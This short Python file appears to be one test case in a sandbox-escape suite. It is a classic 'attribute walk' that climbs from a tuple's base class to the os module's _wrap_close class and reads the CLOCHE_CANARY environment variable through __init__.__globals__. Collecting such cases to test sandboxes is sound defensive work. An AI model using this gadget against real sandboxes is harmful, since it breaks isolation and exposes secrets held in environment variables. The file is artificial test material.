"""Class: attribute walk. Source: the oldest Python sandbox write-ups.
Escape: reads the environment through a class of `os`."""


def attack(model, tokenizer, address):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["environ"]["CLOCHE_CANARY"]
